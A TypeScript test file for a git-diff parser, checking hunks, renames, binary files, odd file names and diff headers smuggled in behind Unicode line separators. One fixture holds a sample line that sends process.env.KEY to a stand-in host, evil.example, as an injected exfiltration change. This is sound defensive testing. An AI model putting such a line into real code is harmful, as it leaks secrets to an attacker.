import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { parsePatch, type PatchFile, printPatch, readPatch } from './patch.ts';

/** What git itself prints of a change. */
function patchOf(before: Readonly<Record<string, string>>, after: Readonly<Record<string, string>>): string {
  const folder = mkdtempSync(path.join(tmpdir(), 'patch-'));
  const git = (...args: string[]): string => execFileSync('git', args, { cwd: folder, encoding: 'utf8' });
  const write = (files: Readonly<Record<string, string>>): void => {
    for (const [name, content] of Object.entries(files)) {
      mkdirSync(path.dirname(path.join(folder, name)), { recursive: true });
      writeFileSync(path.join(folder, name), content);
    }
    git('add', '--all');
  };
  try {
    git('init', '--quiet');
    write(before);
    git('-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '--quiet', '--message=before');
    for (const name of Object.keys(before)) rmSync(path.join(folder, name));
    write(after);
    return git('diff', '--cached', '--find-renames');
  } finally {
    rmSync(folder, { recursive: true });
  }
}

it('gives each line its kind and its numbers on both sides', () => {
  const [file, ...others] = parsePatch(patchOf({ 'a.ts': 'one\ntwo\nthree\n' }, { 'a.ts': 'one\n2\nthree\nfour\n' }));
  expect(others).toEqual([]);
  expect(file).toMatchObject({ path: 'a.ts', isBinary: false });
  expect(file?.hunks).toEqual([
    {
      heading: '',
      lines: [
        { kind: 'same', text: 'one', before: 1, after: 1 },
        { kind: 'removed', text: 'two', before: 2 },
        { kind: 'added', text: '2', after: 2 },
        { kind: 'same', text: 'three', before: 3, after: 3 },
        { kind: 'added', text: 'four', after: 4 },
      ],
    },
  ]);
});

it('names files that are new, gone, renamed, empty, binary, or have odd names', () => {
  const long = 'line\n'.repeat(40);
  const files = parsePatch(
    patchOf(
      { 'gone.ts': 'x\n', 'old/name.ts': long, 'image.bin': '\0one' },
      { 'new file.ts': 'y\n', 'new/name.ts': long, 'image.bin': '\0two', empty: '', 'ü "q"\t.ts': 'z\n' },
    ),
  );
  const paths = files.map(({ path: name, from }) => (from === undefined ? name : `${from} → ${name}`));
  expect(paths.toSorted()).toEqual([
    'empty',
    'gone.ts',
    'image.bin',
    'new file.ts',
    'old/name.ts → new/name.ts',
    'ü "q"\t.ts',
  ]);
  expect(files.find(({ path: name }) => name === 'image.bin')).toMatchObject({ isBinary: true, hunks: [] });
});

it('takes lines for what they are that look like headers', () => {
  const [file] = parsePatch(patchOf({ a: '-- a\n' }, { a: '++ b\n' }));
  expect(file?.path).toBe('a');
  expect(file?.hunks[0]?.lines).toEqual([
    { kind: 'removed', text: '-- a', before: 1 },
    { kind: 'added', text: '++ b', after: 1 },
  ]);
});

it('says where a file has no newline at its end, and finds nothing in what is no diff', () => {
  const [file] = parsePatch(patchOf({ a: 'x\n' }, { a: 'x' }));
  expect(file?.hunks[0]?.lines.at(-1)).toEqual({ kind: 'note', text: 'No newline at end of file' });
  expect(parsePatch('hello\nworld\n')).toEqual([]);
  expect(parsePatch('')).toEqual([]);
});

describe('a file that holds what looks like a diff', () => {
  const plain = Array.from({ length: 30 }, (_, index) => `line ${index + 1}`);
  const before = { 'pay.js': 'export const pay = (to) => to;\n', 'zz.txt': `${plain.join('\n')}\n` };
  const pay = 'export const pay = (to) => fetch(`https://evil.example/${process.env.KEY}${to}`);\n';
  const added = (files: readonly PatchFile[], name: string): readonly string[] =>
    files
      .filter((file) => file.path === name)
      .flatMap(({ hunks }) => hunks.flatMap(({ lines }) => lines))
      .filter(({ kind }) => kind === 'added')
      .map(({ text }) => text);

  it.each([
    ['LINE SEPARATOR', '\u2028'],
    ['PARAGRAPH SEPARATOR', '\u2029'],
    ['carriage return', '\r'],
    ['vertical tab', '\v'],
    ['form feed', '\f'],
    ['next line', '\u0085'],
  ])('takes nothing behind a %s for another file', (_name, end) => {
    const carrier = plain
      .with(2, `line 3, nicer${end}diff --git a/pay.js b/pay.js`)
      .with(25, 'export const pay = (to) => to.trim();');
    const files = parsePatch(patchOf(before, { 'pay.js': pay, 'zz.txt': `${carrier.join('\n')}\n` }));
    expect(files.map(({ path: name }) => name)).toEqual(['pay.js', 'zz.txt']);
    expect(added(files, 'pay.js')).toEqual([pay.trimEnd()]);
    expect(added(files, 'zz.txt')).toEqual([carrier[2], carrier[25]]);
  });

  it.each(['\u2028', '\u2029', '\r', '\u0085'])('shows a hunk whose heading holds %j', (end) => {
    const code = [`function a() {${end} // hi`, ...plain.map((line) => `  ${line}`)];
    const was = { 'a.js': `${code.join('\n')}\n` };
    const is = { 'a.js': was['a.js'].replace('  line 28\n', 'evil()\n') };
    const files = parsePatch(patchOf(was, is));
    expect(files[0]?.hunks[0]?.heading).toContain('function a() {');
    expect(added(files, 'a.js')).toEqual(['evil()']);
  });

  it('keeps names whole that hold such characters, and names that look like two', () => {
    const names = ['a\u2028b', 'a\u2029diff --git a', 'empty\u2028', 'x b/x', 'y\rz', 'q"\u2028"'];
    const after = Object.fromEntries(
      names.map((name) => [name, name.startsWith('empty') || name.startsWith('x') ? '' : 'x\n']),
    );
    expect(
      parsePatch(patchOf({ z: 'z\n' }, { z: 'z\n', ...after }))
        .map((file) => file.path)
        .toSorted(),
    ).toEqual(names.toSorted());
  });

  it('never lets a second part of a path replace the first', () => {
    const patch = patchOf({ a: 'one\n' }, { a: 'two\n' });
    const again = patch.replace('+two', '+three');
    expect(added(parsePatch(`${patch}${again}`), 'a')).toEqual(['two', 'three']);
    expect(parsePatch(`${patch}${again}`)).toHaveLength(1);
  });

  it('leaves out lines that belong to no hunk, and keeps those around them', () => {
    const patch = patchOf({ a: 'one\ntwo\n' }, { a: 'one\nthree\n' });
    const files = parsePatch(patch.replace('-two', '?odd\n-two').replace('+three\n', '+three'));
    expect(files[0]?.hunks[0]?.lines.map(({ text }) => text)).toEqual(['one', 'two', 'three']);
  });

  it('is printed again as git printed it', () => {
    const carrier = plain.with(2, 'line\u20283\rdiff --git a/pay.js b/pay.js').with(25, '-- x');
    const patch = patchOf(before, { 'pay.js': 'no end', 'zz.txt': `${carrier.join('\n')}\n`, empty: '' });
    const again = [...readPatch(patch).values()].map(printPatch).join('');
    expect(again).toBe(patch);
  });
});
